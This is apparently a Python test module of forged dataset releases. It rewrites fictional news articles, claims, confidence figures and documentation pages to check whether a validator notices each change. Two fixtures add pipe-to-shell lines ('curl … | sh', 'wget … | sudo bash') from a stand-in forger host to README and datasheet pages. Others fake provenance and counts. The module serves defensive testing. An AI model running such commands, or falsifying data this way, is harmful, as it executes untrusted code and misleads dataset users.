"""Changes of meaning with clean bookkeeping: our own program writes rows, counts and pages.

Whoever has the release alone sees some of them (`validate`), whoever rebuilds it from the texts
that it publishes sees most (`reproduce`), and for the rest it takes the articles or a signature.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any, Literal

from tests.validators.editing import edit_json, edit_text, fit_page, reseal
from tests.validators.forgeries.rewriting import (
    Change,
    Tables,
    claims_of,
    entity,
    facts_of,
    keep_books,
)

from factpack.ids import make_id, sha256

ARTICLES = {
    "one.txt": (
        "Orrin buys Tessit\n\nOrrin Corp. acquired Tessit Labs for $40 million in March 2019. “We "
        "plan to buy Brackla Ltd. next year,” said Mara Voss, chief executive of Orrin Corp.\n\n"
        "“Orrin Corp. invested $9 million in Velmar Robotics,” said Piet Lund, an analyst at Quill "
        "Research.\n"
    ),
    "two.txt": (
        "LUND, March 4 (Harbour Wire) - Orrin Corp. was founded in 1999 by Mara Voss. Orrin Corp. "
        "denied that it had acquired Kestrel Motors. Tessit Labs is based in Lund.\n\n"
        "Orrin Corp. will acquire Brackla Ltd. in 2021. Orrin Corp. has not invested in Dunmore "
        "Bank.\n"
    ),
    "four.txt": (
        "Who is who in Lund\n\nOrrin Corp. was founded in 2001 by Mara Voss and Jon Hale. Tessit "
        "Labs was acquired by Orrin Corp. in 2019. Orrin Corp. had revenue of $310 million in "
        "2018.\n"
    ),
}
ARTICLES["three.txt"] = ARTICLES["one.txt"]
PUBLISHERS = {
    "one.txt": ("The Lund Post", "2020-02-03"),
    "two.txt": ("Harbour Wire", "2020-03-04"),
    "three.txt": ("The Bay Mail", "2020-02-04"),
    "four.txt": ("Northern Echoes", "2020-05-06"),
}
CONFIG = {
    "name": "orrin-bay",
    "title": "Orrin Bay",
    "description": "News of an invented harbour.",
    "license": "CC0-1.0",
    "rights": "full",
    "released": "2026-01-31",
    "creators": [{"name": "Harbour Data"}],
    "sources": [{"path": "*.txt"}],
    "articles": {
        name: {"publisher": publisher, "published": published}
        for name, (publisher, published) in PUBLISHERS.items()
    },
}

Seen = Literal["validate", "reproduce", "beyond"]


@dataclass(frozen=True)
class Rewriting:
    """A change that leaves all bookkeeping clean.

    Attributes:
        name: what it does.
        seen: the code of the check that notices it; else `reproduce`, where only a rebuild from the
            texts of the release does; else the row of the table in SECURITY.md that says what does.
        change: of the rows, before the release is written.
        configure: of dataset.yaml, before the release is written.
        edit: of the files, after it.
    """

    name: str
    seen: str
    change: Change = lambda tables: None
    configure: Callable[[dict[str, Any]], object] = lambda config: None
    edit: Callable[[Path], object] | None = None


def on(predicate: str, other: str | None = None, /, **cells: Any) -> Change:
    """Other cells in the claims of a predicate and in their facts."""

    def change(tables: Tables) -> None:
        claims = claims_of(tables, predicate, other)
        for row in (*claims, *facts_of(tables, claims)):
            row.update({k: v for k, v in cells.items() if k in row})
        keep_books(tables)

    return change


def turned(predicate: str, other: str | None, trigger: str) -> Change:
    """Subject and object in each other's place, in claims, facts and evidence."""

    def change(tables: Tables) -> None:
        claims = [
            c
            for c in claims_of(tables, predicate, other)
            if any(
                e["claim_id"] == c["claim_id"] and e["part"] == "trigger" and e["exact"] == trigger
                for e in tables["evidence"]
            )
        ]
        assert claims, trigger
        keys = {claim["claim_id"] for claim in claims}
        fact = dict(facts_of(tables, claims)[0], fact_id="f-" + "5" * 20, broader_fact_id=None)
        tables["facts"].append(fact)
        for row in (*claims, fact):
            row.update(fact_id=fact["fact_id"])
            row["subject_id"], row["object_id"] = row["object_id"], row["subject_id"]
        other_side = {"subject": "object", "object": "subject"}
        for row in tables["evidence"]:
            if row["claim_id"] in keys:
                row["part"] = other_side.get(row["part"], row["part"])
        keep_books(tables)

    return change


def amount(tables: Tables) -> None:
    for row in (*tables["claims"], *tables["facts"], *tables["literals"]):
        if row["amount"] == 40e6:
            row["amount"] = 400e6


def amount_in_text(tables: Tables) -> None:
    """The words, too, with all offsets and hashes."""
    amount(tables)
    _reword(tables, "$40 million", "$400 mil ..")


def _reword(tables: Tables, old: str, new: str) -> None:
    assert len(old) == len(new)
    for article in tables["articles"]:
        article["text"] = article["text"].replace(old, new)
        article["text_sha256"] = sha256(article["text"])
    for table in ("claims", "evidence", "literals", "mentions", "quotes"):
        for row in tables[table]:
            text = next(
                a["text"] for a in tables["articles"] if a["article_id"] == _article(tables, row)
            )
            row["exact"] = text[row["char_start"] : row["char_end"]]
            row["exact_sha256"] = sha256(row["exact"])
            if row.get("object_value"):
                row["object_value"] = row["object_value"].replace(old, new)


def _article(tables: Tables, row: dict[str, Any]) -> str:
    if "article_id" in row:
        return str(row["article_id"])
    return next(str(c["article_id"]) for c in tables["claims"] if c["claim_id"] == row["claim_id"])


def reworded(old: str, new: str, then: Change = lambda tables: None) -> Change:
    """Other words of the same length in all articles, and all that rests on them."""

    def change(tables: Tables) -> None:
        then(tables)
        _reword(tables, old, new)

    return change


def ten_times(tables: Tables) -> None:
    """Forty million made ninety, in words and rows."""
    for row in (*tables["claims"], *tables["facts"], *tables["literals"]):
        if row["amount"] == 40e6:
            row["amount"] = 90e6


def other_year(tables: Tables) -> None:
    for row in (*tables["claims"], *tables["facts"], *tables["literals"]):
        if row["date_from"] == date(1999, 1, 1):
            row.update(date_from=date(1989, 1, 1), date_to=date(1989, 12, 31))


def mouth(tables: Tables) -> None:
    """The analyst's quotations are the chief executive's."""
    lund, voss = entity(tables, "Piet Lund"), entity(tables, "Mara Voss")
    for row in tables["quotes"]:
        if row["speaker_id"] == lund:
            row["speaker_id"] = voss
    for row in tables["claims"]:
        if row["attributed_to"] == lund:
            row["attributed_to"] = voss


def mouth_of_claims(tables: Tables) -> None:
    lund, voss = entity(tables, "Piet Lund"), entity(tables, "Mara Voss")
    for row in tables["claims"]:
        if row["attributed_to"] == lund:
            row["attributed_to"] = voss


def speechless(tables: Tables) -> None:
    """What the chief executive plans is what the article says."""
    voss = entity(tables, "Mara Voss")
    keys = {c["claim_id"] for c in tables["claims"] if c["attributed_to"] == voss}
    for row in tables["claims"]:
        if row["claim_id"] in keys:
            row["attributed_to"] = None
    tables["evidence"] = [
        e for e in tables["evidence"] if e["claim_id"] not in keys or e["part"] != "speaker"
    ]
    keep_books(tables)


def unquoted(tables: Tables) -> None:
    """The quotations go, and their claims are the article's own."""
    tables["quotes"] = []
    for row in tables["claims"]:
        if row["modality"] == "reported":
            row.update(modality="asserted", attributed_to=None)
    tables["evidence"] = [e for e in tables["evidence"] if e["part"] != "speaker"]
    keep_books(tables)


def asserted_in_quotes(tables: Tables) -> None:
    for row in tables["claims"]:
        if row["modality"] == "reported":
            row["modality"] = "asserted"
    keep_books(tables)


def own_origins(tables: Tables) -> None:
    """The reprint is an origin of its own, for all that rests on it."""
    one, three = (
        next(a for a in tables["articles"] if a["source"] == s) for s in ("one.txt", "three.txt")
    )
    copy = one if one["duplicate_of"] else three
    old = copy["origin_id"]
    new = make_id("o", "article", copy["article_id"])
    copy.update(duplicate_of=None, origin_id=new)
    for table in ("claims", "quotes"):
        for row in tables[table]:
            if row["article_id"] == copy["article_id"]:
                row["origin_id"] = new
    row = next(o for o in tables["origins"] if o["origin_id"] == old)
    row.update(n_articles=1, n_publishers=1, similarity=None)
    tables["origins"].append(dict(row, origin_id=new, article_id=copy["article_id"]))
    keep_books(tables)


def own_origins_of_other_words(tables: Tables) -> None:
    """The same, with one letter of the reprint changed, so that the texts are no longer equal."""
    own_origins(tables)
    three = next(a for a in tables["articles"] if a["source"] == "three.txt")
    three["text"] = three["text"].replace("an analyst", "on analyst")
    three["text_sha256"] = sha256(three["text"])
    for row in (r for t in ("claims", "quotes") for r in tables[t]):
        if row["article_id"] == three["article_id"]:
            row["exact"] = three["text"][row["char_start"] : row["char_end"]]
            row["exact_sha256"] = sha256(row["exact"])


def more_support(tables: Tables) -> None:
    for fact in tables["facts"]:
        fact["n_origins"] += 5


def dropped(predicate: str, other: str | None = None) -> Change:
    """Claims that are left out, with their facts."""

    def change(tables: Tables) -> None:
        gone = {c["claim_id"] for c in claims_of(tables, predicate, other)}
        for table in ("claims", "evidence"):
            tables[table] = [r for r in tables[table] if r["claim_id"] not in gone]
        keep_books(tables)

    return change


def dropped_denials(tables: Tables) -> None:
    gone = {c["claim_id"] for c in tables["claims"] if c["modality"] == "negated"}
    for table in ("claims", "evidence"):
        tables[table] = [r for r in tables[table] if r["claim_id"] not in gone]
    keep_books(tables)


def dropped_conflict(tables: Tables) -> None:
    """The contradiction goes, and both facts stand unchallenged."""
    tables["conflicts"] = []
    keep_books(tables)


def settled(tables: Tables) -> None:
    """One side of the contradiction wins."""
    for n, row in enumerate(tables["conflicts"]):
        row.update(status="resolved", resolution="origins", is_preferred=n == 0)
        fact = next(f for f in tables["facts"] if f["fact_id"] == row["fact_id"])
        fact["rank"] = "deprecated" if n else "preferred"


def confident(value: float) -> Change:
    def change(tables: Tables) -> None:
        for row in tables["claims"]:
            row["confidence"] = value

    return change


def best_band(tables: Tables) -> None:
    """Every claim has the best confidence that was measured."""
    best = max(row["confidence"] for row in tables["claims"])
    for row in tables["claims"]:
        row["confidence"] = best


def renamed(tables: Tables) -> None:
    """A name of an entity that no article gives, known as an alias."""
    row = next(e for e in tables["entities"] if e["name"] == "Orrin Corp.")
    row["name"] = "Orrin Group"
    alias = next(a for a in tables["aliases"] if a["alias"] == "Orrin Corp.")
    tables["aliases"].append(dict(alias, alias="Orrin Group", n_mentions=0))
    keep_books(tables)


def merged(tables: Tables) -> None:
    """Two people are one."""
    hale, voss = entity(tables, "Jon Hale"), entity(tables, "Mara Voss")
    fact = claims_of(tables, "founded_by", "Mara Voss")[0]["fact_id"]
    for claim in claims_of(tables, "founded_by", "Jon Hale"):
        claim["fact_id"] = fact
    tables["entities"] = [e for e in tables["entities"] if e["entity_id"] != hale]
    _replace(tables, hale, voss)
    _count_mentions(tables)
    keep_books(tables)


def _replace(tables: Tables, old: str, new: str) -> None:
    for rows in tables.values():
        for row in rows:
            for key, value in row.items():
                if value == old:
                    row[key] = new


def _count_mentions(tables: Tables) -> None:
    for row in tables["entities"]:
        found = [
            m
            for m in tables["mentions"]
            if m["entity_id"] == row["entity_id"] and m["kind"] == "name"
        ]
        row.update(n_mentions=len(found), n_articles=len({m["article_id"] for m in found}))
    for row in tables["aliases"]:
        row["n_mentions"] = sum(
            m["entity_id"] == row["entity_id"] and m["exact"] == row["alias"]
            for m in tables["mentions"]
            if m["kind"] == "name"
        )


def item(tables: Tables) -> None:
    next(e for e in tables["entities"] if e["name"] == "Orrin Corp.")["wikidata_id"] = "Q42"


def retyped(tables: Tables) -> None:
    next(e for e in tables["entities"] if e["name"] == "Velmar Robotics")["type"] = "Product"


def published(tables: Tables) -> None:
    """Every article appeared a year before."""
    for row in tables["articles"]:
        row["published_on"] = row["published_on"].replace(year=row["published_on"].year - 1)
    keep_books(tables)


def published_in_config(config: dict[str, Any]) -> None:
    for article in config["articles"].values():
        article["published"] = article["published"].replace("2020", "2019")


def publisher(tables: Tables) -> None:
    for row in tables["articles"]:
        if row["publisher"] == "The Bay Mail":
            row.update(publisher="The Ministry", outlet="The Ministry", owner="The Ministry")
    keep_books(tables)


def publisher_in_config(config: dict[str, Any]) -> None:
    config["articles"]["three.txt"]["publisher"] = "The Ministry"


def without_article(tables: Tables) -> None:
    """An article with all that rests on it."""
    gone = next(a["article_id"] for a in tables["articles"] if a["source"] == "four.txt")
    claims = {c["claim_id"] for c in tables["claims"] if c["article_id"] == gone}
    for table, rows in tables.items():
        if table == "evidence":
            tables[table] = [r for r in rows if r["claim_id"] not in claims]
        elif rows and "article_id" in rows[0] and table not in ("facts",):
            tables[table] = [r for r in rows if r["article_id"] != gone]
    _count_mentions(tables)
    used = {m["entity_id"] for m in tables["mentions"]}
    tables["entities"] = [e for e in tables["entities"] if e["entity_id"] in used]
    tables["aliases"] = [a for a in tables["aliases"] if a["n_mentions"]]
    keep_books(tables)


def made_up_rejection(tables: Tables) -> None:
    """A claim was held back, says the release; nothing was."""
    row = {
        "kind": "claim",
        "source": "one.txt",
        "check_code": "subject-unresolved",
        "reason": "The subject (a rival) is not known by name here.",
        "rule": "acquire",
        "char_start": 19,
        "char_end": 30,
    }
    key = make_id("r", *row.values())  # type: ignore[arg-type]
    article = next(a["article_id"] for a in tables["articles"] if a["source"] == "one.txt")
    tables["rejected"].append(
        {**row, "rejected_id": key, "article_id": article, "extractor": "rules/3"}
    )


def removed_rejections(tables: Tables) -> None:
    """A file that could not be read was never there."""
    assert [row["kind"] for row in tables["rejected"]] == ["article"]
    tables["rejected"] = []


def doubled_claim(tables: Tables) -> None:
    """A fact gets the support of a sentence about another firm."""
    claim = claims_of(tables, "acquired", "Brackla Ltd.")[0]
    claim["fact_id"] = claims_of(tables, "acquired", "Tessit Labs")[0]["fact_id"]
    keep_books(tables)


def ruled(tables: Tables) -> None:
    for row in tables["claims"]:
        row["rule"] = "curated"


def extractor(tables: Tables) -> None:
    for row in tables["claims"]:
        row["extractor"] = "experts/1"
    keep_books(tables)


def page(file: str, old: str, new: str) -> Callable[[Path], object]:
    def edit(release: Path) -> None:
        edit_text(release, file, old, new)
        fit_page(release, file)
        reseal(release)

    return edit


def added(file: str, words: str) -> Callable[[Path], object]:
    def edit(release: Path) -> None:
        with (release / file).open("a", encoding="utf-8") as stream:
            stream.write(f"\n{words}\n")
        fit_page(release, file)
        reseal(release)

    return edit


def write_page(file: str, words: str) -> Callable[[Path], object]:
    def edit(release: Path) -> None:
        (release / file).write_text(words, "utf-8")
        reseal(release)

    return edit


def data(file: str, change: Callable[[Any], object]) -> Callable[[Path], object]:
    def edit(release: Path) -> None:
        edit_json(release, file, change)
        reseal(release)

    return edit


def field(name: str, text: str) -> Callable[[Any], object]:
    """Another description of a column."""

    def change(package: Any) -> None:
        for resource in package["resources"]:
            for column in resource.get("schema", {}).get("fields", ()):
                if column["name"] == name:
                    column["description"] = text

    return change


def shares(manifest: Any) -> None:
    manifest["confidence"]["shares"][-1]["confidence"] = 0.99


def counted(manifest: Any) -> None:
    manifest["confidence"]["shares"].append({"confidence": 0.99, "right": 99, "judged": 100})


BEYOND_ARTICLE = "an article reworded together with all that rests on it"
BEYOND_METADATA = (
    "publisher, date or address of an article, in dataset.yaml, too, where that states it"
)
BEYOND_FILE = (
    "author of an article, a title or language that somebody gave, or how its file was read"
)
BEYOND_NAMES = "the licence, title, description, day or makers, everywhere at once"
BEYOND_LEFT_OUT = "an article left out with all that rests on it"


REWRITINGS: tuple[Rewriting, ...] = (
    # Modality.
    Rewriting(
        "a plan is asserted", "claim-modality", on("acquired", "Brackla Ltd.", modality="asserted")
    ),
    Rewriting(
        "a plan is reported, with nobody who says it",
        "reproduce",
        on("acquired", "Brackla Ltd.", modality="reported"),
    ),
    Rewriting(
        "a denial is asserted",
        "claim-modality",
        on("invested_in", "Dunmore Bank", modality="asserted"),
    ),
    Rewriting(
        "a denial is reported",
        "claim-modality",
        on("invested_in", "Dunmore Bank", modality="reported"),
    ),
    Rewriting(
        "a denial in somebody's words is asserted",
        "claim-modality",
        on("acquired", "Kestrel Motors", modality="asserted"),
    ),
    Rewriting(
        "a denial in somebody's words is reported",
        "reproduce",
        on("acquired", "Kestrel Motors", modality="reported"),
    ),
    Rewriting("an event is planned", "claim-modality", on("founded_by", modality="planned")),
    Rewriting("an event is denied", "claim-modality", on("located_in", modality="negated")),
    Rewriting("an event is possible", "claim-modality", on("founded_on", modality="possible")),
    Rewriting("words of an analyst are asserted", "claim-modality", asserted_in_quotes),
    Rewriting(
        "the quotations are gone, and what they say is asserted", "evidence-missing", unquoted
    ),
    # Direction.
    Rewriting(
        "who bought whom is turned round",
        "claim-direction",
        turned("acquired", "Tessit Labs", "acquired"),
    ),
    Rewriting(
        "who bought whom is turned round in a headline",
        "claim-direction",
        turned("acquired", "Tessit Labs", "buys"),
    ),
    Rewriting(
        "who invested in whom is turned round",
        "claim-direction",
        turned("invested_in", "Velmar Robotics", "invested"),
    ),
    Rewriting(
        "who founded whom is turned round", "vocabulary", turned("founded_by", None, "founded")
    ),
    Rewriting(
        "subject and object are swapped in claims and facts alone",
        "evidence-alias",
        lambda tables: [
            row.update(subject_id=row["object_id"], object_id=row["subject_id"])
            for row in (
                *claims_of(tables, "acquired", "Kestrel Motors"),
                *facts_of(tables, claims_of(tables, "acquired", "Kestrel Motors")),
            )
        ],
    ),
    # Who says it.
    Rewriting("a quotation is in another mouth", "evidence-alias", mouth),
    Rewriting("a quoted claim is in another mouth", "claim-speaker", mouth_of_claims),
    Rewriting("a quoted claim is in nobody's mouth", "claim-speaker", speechless),
    # Values.
    Rewriting("an amount is ten times as high", "value-ungrounded", amount),
    Rewriting("a founding is ten years earlier", "value-ungrounded", other_year),
    Rewriting(
        "euros for dollars",
        "value-ungrounded",
        on("has_metric", currency="EUR"),
    ),
    Rewriting("profit for revenue", "reproduce", on("has_metric", metric="profit")),
    Rewriting("a target for a result", "reproduce", on("has_metric", kind="target")),
    Rewriting("a post that is over", "reproduce", on("has_role", former=True)),
    Rewriting("another role", "span-words", on("has_role", "Quill Research", role="founder")),
    Rewriting(
        "a deadline for a date", "reproduce", on("acquired", "Brackla Ltd.", date_relation="by")
    ),
    Rewriting(
        "a merger for an acquisition", "reproduce", on("acquired", "Tessit Labs", kind="merger")
    ),
    # Support.
    Rewriting("five origins more for each fact", "count-mismatch", more_support),
    Rewriting("a reprint is an origin of its own", "origin-mismatch", own_origins),
    Rewriting("a plan supports a fact of another firm", "fact-claim", doubled_claim),
    Rewriting("claims of a fact are left out", "reproduce", dropped("founded_by")),
    Rewriting("one fact is left out", "reproduce", dropped("acquired", "Kestrel Motors")),
    Rewriting("all denials are left out", "reproduce", dropped_denials),
    Rewriting("a contradiction is left out", "reproduce", dropped_conflict),
    Rewriting("a contradiction is settled", "conflict-unfounded", settled),
    # Confidence.
    Rewriting("every claim has a confidence of 0.99", "confidence-unmeasured", confident(0.99)),
    Rewriting("every claim has a confidence of 1", "confidence-unmeasured", confident(1.0)),
    Rewriting("claims below what is published", "confidence-unmeasured", confident(0.25)),
    Rewriting("every claim has the best confidence", "reproduce", best_band),
    Rewriting(
        "a share that its counts do not give",
        "confidence-unmeasured",
        edit=data("manifest.json", shares),
    ),
    Rewriting(
        "a confidence of 0.99 that the manifest counts claims for",
        "reproduce",
        confident(0.99),
        edit=data("manifest.json", counted),
    ),
    Rewriting(
        "a manifest that counts no judged claims",
        "confidence-uncounted",
        edit=data("manifest.json", lambda manifest: manifest.pop("confidence")),
    ),
    # Entities.
    Rewriting("an entity has a name that no article gives", "reproduce", renamed),
    Rewriting("two people are one", "claim-twice", merged),
    Rewriting("an entity is another item of Wikidata", "manifest-mismatch", item),
    Rewriting("a firm is a product", "vocabulary", retyped),
    # Articles.
    Rewriting(
        "an amount is higher in words and rows",
        BEYOND_ARTICLE,
        reworded("$40 million", "$90 million", ten_times),
    ),
    Rewriting(
        "a founding is ten years earlier in words and rows",
        BEYOND_ARTICLE,
        reworded("1999", "1989", other_year),
    ),
    Rewriting(
        "words of a title read otherwise",
        "title-differs",
        reworded("Who is who", "Who was who"[:10]),
    ),
    Rewriting("articles are a year older", "manifest-mismatch", published),
    Rewriting(
        "articles are a year older, in dataset.yaml, too",
        BEYOND_METADATA,
        published,
        published_in_config,
    ),
    Rewriting("an article has another publisher", "manifest-mismatch", publisher),
    Rewriting(
        "an article has another publisher, in dataset.yaml, too",
        BEYOND_METADATA,
        publisher,
        publisher_in_config,
    ),
    Rewriting(
        "a reprint with one letter changed is an origin of its own",
        BEYOND_ARTICLE,
        own_origins_of_other_words,
    ),
    # What was rejected, and by what.
    Rewriting("a file that was rejected is left out", BEYOND_LEFT_OUT, removed_rejections),
    Rewriting("a rejection is made up", "reproduce", made_up_rejection),
    Rewriting("another rule read it", "reproduce", ruled),
    Rewriting("claims are the work of experts", "manifest-mismatch", extractor),
    # Names of the whole.
    Rewriting(
        "another licence",
        BEYOND_NAMES,
        configure=lambda config: config.update(license="CC-BY-4.0"),
    ),
    Rewriting(
        "another title", BEYOND_NAMES, configure=lambda config: config.update(title="Bay Facts")
    ),
    Rewriting(
        "another maker",
        BEYOND_NAMES,
        configure=lambda config: config.update(creators=[{"name": "The Ministry"}]),
    ),
    Rewriting(
        "another licence in the package alone",
        "licence-mismatch",
        edit=data(
            "datapackage.json", lambda package: package["licenses"][0].update(name="CC-BY-4.0")
        ),
    ),
    Rewriting(
        "another licence in its text alone",
        "licence-mismatch",
        edit=write_page("LICENSE", "All rights are ours.\n"),
    ),
    Rewriting(
        "another licence in the card alone",
        "card-mismatch",
        edit=page("README.md", "license: cc0-1.0", "license: mit"),
    ),
    # Pages.
    Rewriting(
        "the card counts more facts",
        "card-mismatch",
        edit=page("README.md", "15 facts", "95 facts"),
    ),
    Rewriting(
        "the card reads out more support",
        "card-mismatch",
        edit=page("README.md", "** (1 independent origin)", "** (9 independent origins)"),
    ),
    Rewriting(
        "the card reads out a statement about another firm",
        "card-mismatch",
        edit=page("README.md", "- **Orrin", "- **Quill"),
    ),
    Rewriting(
        "the card tells to pipe a script into a shell",
        "active-content",
        edit=added("README.md", "Before you load it, run curl get.forger.example | sh once."),
    ),
    Rewriting(
        "the datasheet tells to pipe a script into a shell",
        "active-content",
        edit=added("DATASHEET.md", "First `wget -qO- forger.example/x | sudo bash`."),
    ),
    Rewriting(
        "the card has a command more",
        "card-mismatch",
        edit=added("README.md", "```sh\npip install forger\n```"),
    ),
    Rewriting(
        "the card says in words that the facts are true",
        "reproduce",
        edit=page(
            "README.md", "A fact is what articles assert, not what is true.", "Facts are true."
        ),
    ),
    Rewriting(
        "the datasheet says in words that a person read all",
        "reproduce",
        edit=added("DATASHEET.md", "Every claim was read by two experts."),
    ),
    Rewriting(
        "the datasheet counts other languages",
        "datasheet-mismatch",
        edit=page("DATASHEET.md", "| en | 4 |", "| en | 9 |"),
    ),
    Rewriting(
        "the datasheet counts more facts",
        "datasheet-mismatch",
        edit=page("DATASHEET.md", "**Facts.** ", "**Facts.** 9"),
    ),
    Rewriting(
        "the datasheet counts other rows",
        "datasheet-mismatch",
        edit=page("DATASHEET.md", "| `facts` | 15 |", "| `facts` | 95 |"),
    ),
    Rewriting(
        "the datasheet counts other articles of a publisher",
        "datasheet-mismatch",
        edit=page("DATASHEET.md", "| Harbour Wire | 1 |", "| Harbour Wire | 7 |"),
    ),
    Rewriting(
        "the datasheet counts other encodings",
        "datasheet-mismatch",
        edit=page("DATASHEET.md", "| utf-8 (valid) | 4 |", "| utf-8 (valid) | 5 |"),
    ),
    Rewriting(
        "the datasheet tells of other rejections",
        "datasheet-mismatch",
        edit=page("DATASHEET.md", "**Is anything missing?** 1 ", "**Is anything missing?** 0 "),
    ),
    Rewriting(
        "the change log counts more claims",
        "changelog-mismatch",
        edit=page("CHANGELOG.md", " claims", "0 claims"),
    ),
    Rewriting(
        "the change log promises what is not there",
        "reproduce",
        edit=added("CHANGELOG.md", "All claims were checked by hand."),
    ),
    Rewriting(
        "a plot is drawn with other numbers",
        "plot-mismatch",
        edit=page("plots/claims-by-modality.svg", "asserted: 1", "asserted: 9"),
    ),
    Rewriting(
        "the citation names another maker",
        "citation-mismatch",
        edit=page("CITATION.cff", "Harbour Data", "The Ministry"),
    ),
    Rewriting(
        "the citation names another version",
        "citation-mismatch",
        edit=page("CITATION.cff", "version: 1.0.0", "version: 1.0.1"),
    ),
    Rewriting(
        "a column means something else in the package",
        "package-mismatch",
        edit=data("datapackage.json", field("n_origins", "People who agree.")),
    ),
    Rewriting(
        "a column means something else in the datasheet",
        "reproduce",
        edit=page("DATASHEET.md", "Hedged claims.", "Claims beyond doubt."),
    ),
    Rewriting(
        "the description of the package is another",
        "package-mismatch",
        edit=data("datapackage.json", lambda package: package.update(description="All true.")),
    ),
    Rewriting(
        "a source of the package is another outlet",
        "package-mismatch",
        edit=data(
            "datapackage.json", lambda package: package["sources"][0].update(title="The Ministry")
        ),
    ),
    Rewriting(
        "the package is of another day",
        "citation-mismatch",
        edit=data(
            "datapackage.json", lambda package: package.update(created="2020-01-01T00:00:00Z")
        ),
    ),
    Rewriting(
        "the report of the validators counts other findings",
        "validation-mismatch",
        edit=data("validation.json", lambda report: report["counts"].update(warning=3)),
    ),
)
